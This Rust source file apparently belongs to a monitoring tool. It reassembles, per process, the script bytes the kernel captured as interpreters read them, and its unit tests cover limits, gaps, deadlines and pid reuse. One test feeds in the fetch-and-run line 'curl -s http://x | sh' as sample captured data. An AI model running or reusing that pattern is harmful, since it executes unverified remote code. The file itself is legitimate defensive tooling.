//! Script bytes the kernel copied as an interpreter read them (capture's
//! phase 2), put back together per process.
//!
//! Capture calls `exec`, `content` and `exit` from its reader as records
//! arrive (cheap, never blocking); the pipeline keeps the `Arc<Capture>` of
//! each exec and, when the script could not be read from user space (a pipe,
//! a deleted file, a memfd), waits a bounded time for the bytes: until the
//! process exits, the per-process limit is reached, or the deadline passes.

use std::num::NonZeroUsize;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use lru::LruCache;
use tokio::sync::Notify;

/// What one interpreter process read from its script or stdin.
#[derive(Debug, Default)]
pub struct Capture {
    state: Mutex<CaptureState>,
    changed: Notify,
}

#[derive(Debug, Default)]
struct CaptureState {
    bytes: Vec<u8>,
    /// Bytes lost between chunks (a chunk dropped in the ring buffer).
    gaps: u64,
    done: bool,
}

impl Capture {
    fn lock(&self) -> std::sync::MutexGuard<'_, CaptureState> {
        self.state.lock().unwrap_or_else(|p| p.into_inner())
    }

    fn finish(&self) {
        self.lock().done = true;
        self.changed.notify_waiters();
    }

    /// The bytes so far, once complete or at `deadline` (whichever first).
    pub async fn wait(&self, deadline: tokio::time::Instant) -> CapturedBytes {
        loop {
            let notified = self.changed.notified();
            tokio::pin!(notified);
            notified.as_mut().enable();
            {
                let state = self.lock();
                if state.done {
                    return CapturedBytes::from(&state, true);
                }
            }
            tokio::select! {
                _ = &mut notified => {}
                _ = tokio::time::sleep_until(deadline) => {
                    return CapturedBytes::from(&self.lock(), false);
                }
            }
        }
    }

    /// The bytes so far, without waiting.
    pub fn snapshot(&self) -> CapturedBytes {
        let state = self.lock();
        CapturedBytes::from(&state, state.done)
    }
}

/// A copy of what was captured.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CapturedBytes {
    pub bytes: Vec<u8>,
    pub gaps: u64,
    /// The process exited, hit the limit or read to end of file: nothing more will come.
    pub complete: bool,
}

impl CapturedBytes {
    fn from(state: &CaptureState, complete: bool) -> Self {
        Self {
            bytes: state.bytes.clone(),
            gaps: state.gaps,
            complete,
        }
    }
}

/// All interpreter processes whose reads are being captured, by pid.
#[derive(Debug, Clone)]
pub struct ContentStore {
    by_pid: Arc<Mutex<LruCache<u32, Arc<Capture>>>>,
    limit: usize,
}

impl ContentStore {
    /// `limit`: bytes kept per process (match the kernel's `max_content_bytes`).
    pub fn new(limit: usize) -> Self {
        Self {
            by_pid: Arc::new(Mutex::new(LruCache::new(
                NonZeroUsize::new(16384).expect("non-zero"),
            ))),
            limit,
        }
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, LruCache<u32, Arc<Capture>>> {
        self.by_pid.lock().unwrap_or_else(|p| p.into_inner())
    }

    /// An interpreter exec'd as `pid`: what it reads from now on is its
    /// script. A previous program in the same pid is finished (exec replaced it).
    pub fn exec(&self, pid: u32) -> Arc<Capture> {
        let fresh = Arc::new(Capture::default());
        if let Some(old) = self.lock().put(pid, fresh.clone()) {
            old.finish();
        }
        fresh
    }

    /// `bytes` read by `pid` at `offset` of its script stream; `last` when
    /// nothing more will come (the kernel's per-process limit was reached
    /// with this chunk, or the stream hit end of file).
    pub fn content(&self, pid: u32, offset: u64, bytes: &[u8], last: bool) {
        let Some(capture) = self.lock().get(&pid).cloned() else {
            return;
        };
        let mut state = capture.lock();
        let have = state.bytes.len() as u64;
        if offset > have {
            state.gaps += offset - have;
            state.bytes.resize(offset as usize, 0);
        }
        let start = (state.bytes.len() as u64).saturating_sub(offset) as usize;
        if start < bytes.len() {
            let room = self.limit.saturating_sub(state.bytes.len());
            let take = (bytes.len() - start).min(room);
            state.bytes.extend_from_slice(&bytes[start..start + take]);
        }
        let full = state.bytes.len() >= self.limit;
        drop(state);
        // Waiters only want complete streams: waking them for every chunk
        // (a shell reads a piped script one byte at a time) is wasted work.
        if last || full {
            capture.finish();
        }
    }

    /// `pid` exited: its capture is complete.
    pub fn exit(&self, pid: u32) {
        if let Some(capture) = self.lock().pop(&pid) {
            capture.finish();
        }
    }

    /// Capture has stopped and the ring buffer is drained: no more bytes
    /// will come for anyone, so every waiter can take what it has now.
    pub fn finish_all(&self) {
        let mut by_pid = self.lock();
        while let Some((_, capture)) = by_pid.pop_lru() {
            capture.finish();
        }
    }
}

/// How long the pipeline waits for kernel-captured bytes by default.
pub const DEFAULT_WAIT: Duration = Duration::from_millis(300);

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn finishing_all_releases_every_waiter() {
        let store = ContentStore::new(1024);
        let capture = store.exec(9);
        store.content(9, 0, b"echo partial", false);
        store.finish_all();
        let got = capture
            .wait(tokio::time::Instant::now() + Duration::from_secs(3600))
            .await;
        assert!(got.complete);
        assert_eq!(got.bytes, b"echo partial");
    }

    #[tokio::test]
    async fn chunks_are_put_together_until_exit() {
        let store = ContentStore::new(1024);
        let capture = store.exec(7);
        store.content(7, 0, b"curl -s http://x", false);
        store.content(7, 16, b" | sh\n", false);
        // A repeated chunk (same offset) is not appended twice.
        store.content(7, 16, b" | sh\n", false);
        assert!(!capture.snapshot().complete);
        store.exit(7);
        let got = capture
            .wait(tokio::time::Instant::now() + Duration::from_secs(3600))
            .await;
        assert_eq!(got.bytes, b"curl -s http://x | sh\n");
        assert!(got.complete);
        assert_eq!(got.gaps, 0);
    }

    #[tokio::test]
    async fn the_limit_completes_and_gaps_are_counted() {
        let store = ContentStore::new(8);
        let capture = store.exec(1);
        store.content(1, 2, b"abc", false);
        store.content(1, 5, b"defghij", false);
        let got = capture.snapshot();
        assert_eq!(got.bytes, b"\0\0abcdef");
        assert_eq!(got.gaps, 2);
        assert!(got.complete);
    }

    #[tokio::test]
    async fn the_deadline_returns_what_there_is() {
        let store = ContentStore::new(1024);
        let capture = store.exec(3);
        store.content(3, 0, b"partial", false);
        let got = capture
            .wait(tokio::time::Instant::now() + Duration::from_millis(50))
            .await;
        assert_eq!(got.bytes, b"partial");
        assert!(!got.complete);
    }

    #[tokio::test]
    async fn a_new_exec_in_the_same_pid_finishes_the_old_one() {
        let store = ContentStore::new(1024);
        let first = store.exec(9);
        store.content(9, 0, b"one", false);
        let second = store.exec(9);
        store.content(9, 0, b"two", false);
        assert!(first.snapshot().complete);
        assert_eq!(first.snapshot().bytes, b"one");
        assert_eq!(second.snapshot().bytes, b"two");
        // Content of unknown pids is ignored.
        store.content(10, 0, b"x", false);
    }
}
